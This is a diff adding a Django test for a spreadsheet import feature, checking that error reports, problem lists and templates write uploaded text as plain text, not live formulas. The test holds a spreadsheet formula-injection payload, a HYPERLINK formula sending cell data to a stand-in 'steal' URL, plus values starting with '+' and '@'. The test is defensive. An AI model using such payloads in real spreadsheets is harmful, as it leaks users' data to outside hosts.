@@ -4,11 +4,13 @@ import io
 
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
 from dangjian.audit.models import AuditEvent
+from dangjian.core.testing import formula_cells
 from dangjian.imports import services
 from dangjian.imports.models import ImportJob, ImportStatus
+from dangjian.orgs import services as org_services
 from dangjian.people.models import Member
 
 from .conftest import MEMBER_HEADER, RESIDENT_HEADER, citizen_id, member_row, read_xlsx, xlsx
@@ -130,6 +132,32 @@ def test_errors_are_listed_by_row_and_column_and_the_report_marks_them(world, lo
     assert job.status == ImportStatus.CANCELLED
     fixed = ImportJob.objects.latest("pk")
     assert fixed.status == ImportStatus.CHECKED and fixed.error_count == 0 and fixed.total_rows == 3
+
+
+def test_no_uploaded_or_stored_text_comes_back_as_a_live_formula(world, login):
+    """The error report, its problem list and the template's option lists write text as text."""
+    link = '=HYPERLINK("http://example.com/steal?d="&B2,"点我")'
+    org_services.org_create(actor=None, org_type="branch", name="@SUM(1)支部", parent=world.cc1, area=world.c1)
+    wb = Workbook()
+    ws = wb.active
+    ws.append(MEMBER_HEADER)
+    ws.append(member_row(2, name=link, 所在党组织="+无此支部"))
+    for cell in ws[2]:
+        cell.data_type = "s"  # typed into text-formatted cells, as a person or a script would
+    out = io.BytesIO()
+    wb.save(out)
+    client = login(world.users.community_worker)
+    upload(client, out.getvalue())
+    job = ImportJob.objects.get()
+    assert job.error_count == 1
+    content = b"".join(client.get(reverse("imports:error_report", args=[job.public_id])).streaming_content)
+    assert formula_cells(content) == []
+    assert read_xlsx(content)[1][:1] == (link,) and read_xlsx(content)[1][7] == "+无此支部"
+    assert read_xlsx(content, "错误清单")[1][3] == "+无此支部"
+    template = client.get(reverse("imports:template", args=["members"])).content
+    assert formula_cells(template) == []
+    options = [row[0] for row in read_xlsx(template, "可选值")]
+    assert "@SUM(1)支部" in options
 
 
 def test_upload_form_errors(world, login):
